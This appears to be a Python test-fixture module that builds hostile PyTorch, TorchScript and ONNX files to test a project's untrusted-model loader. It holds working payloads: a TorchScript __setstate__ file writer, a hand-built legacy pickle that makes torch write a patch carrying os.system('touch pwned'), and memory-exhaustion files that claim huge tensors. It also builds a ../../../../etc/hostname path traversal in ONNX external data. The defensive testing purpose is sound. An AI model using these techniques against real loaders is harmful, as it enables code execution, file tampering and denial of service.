"""The attack corpus of test_untrusted.py, built in the test's own folder (nothing downloaded). Each file is what an
attacker who has read models/checkpoints.py and models/untrusted.py would try; a payload that ran would create its
`marker` file (or a `.patch` file, for the pre-1.6 route)."""

import io
import pickle
import zipfile
from collections import OrderedDict
from typing import Tuple

import torch

from models.checkpoints import model_to_ckpt
from models.yolo import DetectionModel

LEGACY_HEADER = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION,
                 {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})


class FileWriter(torch.nn.Module):
    """Scripted, its `__setstate__` runs inside torch.jit.load: torch.from_file(shared=True) creates any file."""

    def __init__(self, target: str):
        super().__init__()
        self.target = target
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = state[1]
        self.w = torch.from_file(self.target, shared=True, size=8)


def scripted_writer(path, marker):
    torch.jit.script(FileWriter(str(marker))).save(str(path))
    return path


def rezip(src, dst, rename=None, replace=None, extra=(), tail=b""):
    """A copy of the zip `src` with members renamed ({old: new}), contents replaced ({name: bytes}), extra
    (name, bytes) members added first, and `tail` bytes appended."""
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(buf, "w") as out:
        for name, data in extra:
            out.writestr(name, data)
        for info in z.infolist():
            data = (replace or {}).get(info.filename, z.read(info))
            info.filename = (rename or {}).get(info.filename, info.filename)
            out.writestr(info, data)
    dst.write_bytes(buf.getvalue() + tail)
    return dst


def disguised(ts, folder):
    """A TorchScript archive dressed as a checkpoint: as is, with bytes appended (zipfile.is_zipfile may then say
    no), its first member renamed, and a harmless data.pkl added first."""
    first = zipfile.ZipFile(ts).namelist()[0]
    top = first.split("/")[0]
    return {
        "as .pt": rezip(ts, folder / "plain.pt"),
        "appended bytes": rezip(ts, folder / "appended.pt", tail=b"\0" * 7),
        "renamed first member": rezip(ts, folder / "renamed.pt", rename={first: f"{top}/z{first.split('/')[-1]}"}),
        "extra data.pkl": rezip(ts, folder / "extra.pt", extra=[(f"{top}/data.pkl", pickle.dumps({}, protocol=2))]),
    }


def _op_str(s):
    b = s.encode()
    return pickle.BINUNICODE + len(b).to_bytes(4, "little") + b


def legacy(main_pickle, tail=b""):
    """A pre-1.6 torch file: magic number, protocol, system info, `main_pickle`, storage keys, raw bytes."""
    head = b"".join(pickle.dumps(x, protocol=2) for x in LEGACY_HEADER)
    return head + main_pickle + pickle.dumps(["0"] if tail else [], protocol=2) + tail


def legacy_build_patch(target):
    """The pre-1.6 route of the issue: BUILD on the allowed `torch._utils._rebuild_tensor` sets `dump_patches` and
    `__name__`, then a ('module', that function, file, source) persistent id makes torch's legacy loader write
    `<__name__>.patch` with a diff of the file's choosing."""
    return legacy(
        pickle.PROTO + b"\x02" + pickle.GLOBAL + b"torch._utils\n_rebuild_tensor\n" + pickle.BINPUT + b"\x00"
        + pickle.EMPTY_DICT + pickle.MARK + _op_str("dump_patches") + pickle.NEWTRUE + _op_str("__name__")
        + _op_str(str(target)) + pickle.SETITEMS + pickle.BUILD
        + pickle.MARK + _op_str("module") + pickle.BINGET + b"\x00" + _op_str("evil.py")
        + _op_str("import os\nos.system('touch pwned')\n") + pickle.TUPLE + pickle.BINPERSID
        + pickle.TUPLE2 + pickle.STOP)


class _Claim:
    """Pickles as a persistent id: a storage of `numel` elements that the file does not hold."""

    def __init__(self, storage_type, numel, legacy):
        self.pid = ("storage", storage_type, "0", "cpu", numel, *((None,) if legacy else ()))


class _Rebuild:
    def __init__(self, claim, shape):
        self.claim, self.shape = claim, shape

    def __reduce__(self):
        stride = tuple(int(torch.tensor(self.shape[i + 1:]).prod()) for i in range(len(self.shape)))
        return torch._utils._rebuild_tensor_v2, (self.claim, 0, self.shape, stride, False, OrderedDict())


class _ClaimPickler(pickle.Pickler):
    def persistent_id(self, obj):
        return obj.pid if isinstance(obj, _Claim) else None


def _claim_pickle(obj):
    buf = io.BytesIO()
    _ClaimPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def legacy_claim(numel):
    """A pre-1.6 file of a few hundred bytes whose one fp16 tensor claims `numel` elements (torch would allocate
    them while unpickling); the raw bytes hold one element."""
    claim = _Claim(torch.HalfStorage, numel, legacy=True)
    return legacy(_claim_pickle({"model": None, "w": _Rebuild(claim, (numel,))}),
                  tail=(1).to_bytes(8, "little") + b"\0\0")


def zip_claim(path, numel):
    """A zip checkpoint whose data.pkl claims `numel` float32 elements; its data/0 record holds 4 bytes."""
    claim = _Claim(torch.FloatStorage, numel, legacy=False)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", _claim_pickle({"model": None, "w": _Rebuild(claim, (numel,))}))
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\0" * 4)
        z.writestr("archive/version", "3\n")
    return path


def our_checkpoint(**model_entry):
    entry = {**model_to_ckpt(DetectionModel("yolov5n.yaml", nc=3)), **model_entry}
    return {"epoch": -1, "model": entry, "ema": None, "optimizer": None}


def expanded_view(path, numel):
    """Our format, but one weight is a stride-0 view of two bytes describing `numel` elements (a conversion to fp32
    would allocate them all)."""
    ckpt = our_checkpoint()
    ckpt["model"]["state_dict"]["model.0.conv.weight"] = torch.zeros(1, dtype=torch.half).expand(numel)
    torch.save(ckpt, path)
    return path


def yaml_blowup(path):
    """Our format with a YAML scaled 64x wide and the small model's weights: building it would take gigabytes."""
    ckpt = our_checkpoint()
    ckpt["model"]["yaml"] = {**ckpt["model"]["yaml"], "width_multiple": 16.0}
    torch.save(ckpt, path)
    return path


# ------------------------------------------------------------------ files of a few hundred bytes that cost gigabytes
class Call:
    """Pickles as `fn(*args)` (REDUCE), as a payload would."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def constructor_call(path, fn, *args):
    """A checkpoint whose pickle calls an allowed class or function with arguments: `Conv2d(512, 1024, 32)` builds
    2 GiB of weights, `torch.Tensor(10**9)` 4 GiB."""
    torch.save({"model": None, "w": Call(fn, *args)}, path)
    return path


def deep_pickle(path, depth, kind):
    """A zip checkpoint whose data.pkl nests `depth` lists (each on the pickle's stack) or tuples (TUPLE1 of TUPLE1
    of ..., the stack one value high)."""
    body = b"]" * depth + b"a" * (depth - 1) if kind == "lists" else b")" + b"\x85" * depth
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", b"\x80\x02" + body + b".")
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return path


def yaml_in_checkpoint(path, **edits):
    """Our format with the model YAML's keys replaced (`anchors: 20000000`, `width_multiple: inf`) or its backbone
    led by `upsamples` rows of nn.Upsample (each doubling the dummy forward's image)."""
    ckpt = our_checkpoint()
    cfg = {**ckpt["model"]["yaml"], **{k: v for k, v in edits.items() if k != "upsamples"}}
    cfg["backbone"] = [[-1, 1, "nn.Upsample", [None, 2, "nearest"]]] * edits.get("upsamples", 0) + cfg["backbone"]
    ckpt["model"]["yaml"] = cfg
    torch.save(ckpt, path)
    return path


CLASSIFY_META = {"task": "classify", "stride": 1, "names": {"0": "a", "1": "b", "2": "c"}, "nc": 3, "layout": None,
                 "imgsz": [64, 64], "batch": 1, "dynamic": False, "half": False, "outputs": 0}


class _Pooled(torch.nn.Module):
    def forward(self, x):
        y = torch.flatten(torch.nn.functional.adaptive_avg_pool2d(x, 1), 1)
        return torch.softmax(y + torch.full([1, 3], 0.5)[:1], 1)


def torchscript_full(path, size):
    """A classifier traced as export.py traces, whose code is then edited so that its `torch.full` makes `size`
    (a list literal): a 3 KB file, every operator on the allow-list."""
    import json

    ts = torch.jit.trace(_Pooled(), torch.zeros(1, 3, 64, 64))
    ts.save(str(path), _extra_files={"yolo": json.dumps(CLASSIFY_META)})
    z = zipfile.ZipFile(path)
    code = next(n for n in z.namelist() if n.endswith(".py") and "torch.full" in z.read(n).decode())
    text = z.read(code).decode().replace("torch.full([1, 3]", f"torch.full({list(size)}")
    return rezip(path, path, replace={code: text.encode()})


def onnx_model(nodes, outputs, inits=(), meta=None, opset=17):
    """An ONNX file (bytes) taking `images` (1, 3, 64, 64), with `nodes`, the `outputs` (name, rank) and metadata."""
    import json

    from onnx import TensorProto, helper

    graph = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("images", TensorProto.FLOAT, [1, 3, 64, 64])],
                              [helper.make_tensor_value_info(n, TensorProto.FLOAT, [None] * r) for n, r in outputs],
                              list(inits))
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", opset)])
    entry = model.metadata_props.add()
    entry.key, entry.value = "yolo", json.dumps(meta or CLASSIFY_META)
    return model.SerializeToString()


def onnx_constant_of_shape(n):
    """497 bytes: a `ConstantOfShape` of `n` floats, which onnxruntime folds (allocates) while loading."""
    import numpy as np
    from onnx import helper, numpy_helper

    shape = numpy_helper.from_array(np.array([n], dtype=np.int64), "shape")
    return onnx_model([helper.make_node("ConstantOfShape", ["shape"], ["big"])], [("big", 1)], [shape])


def onnx_loop(trips):
    """A `Loop` of `trips` iterations whose body passes its input through: it would run until stopped."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["x_in"], ["x_out"])],
        "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
                 helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
                 helper.make_tensor_value_info("x_in", TensorProto.FLOAT, None)],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("x_out", TensorProto.FLOAT, None)])
    inits = [numpy_helper.from_array(np.array(trips, dtype=np.int64), "trips"),
             numpy_helper.from_array(np.array(True), "cond")]
    return onnx_model([helper.make_node("Loop", ["trips", "cond", "images"], ["y"], body=body)], [("y", 4)], inits)


def onnx_pooled(meta=None, external=False):
    """images -> GlobalAveragePool -> Flatten: (1, 3) scores, an honest classifier; with `meta` saying otherwise (a
    detector's layout), or its one weight stored `external`ly, a hostile one."""
    import numpy as np
    from onnx import helper, numpy_helper

    scale = numpy_helper.from_array(np.ones((1, 3), dtype=np.float32), "scale")
    if external:
        scale.data_location, scale.raw_data = scale.EXTERNAL, b""
        entry = scale.external_data.add()
        entry.key, entry.value = "location", "../../../../etc/hostname"
    nodes = [helper.make_node("GlobalAveragePool", ["images"], ["p"]), helper.make_node("Flatten", ["p"], ["f"]),
             helper.make_node("Mul", ["f", "scale"], ["scores"])]
    return onnx_model(nodes, [("scores", 2)], [scale], meta)
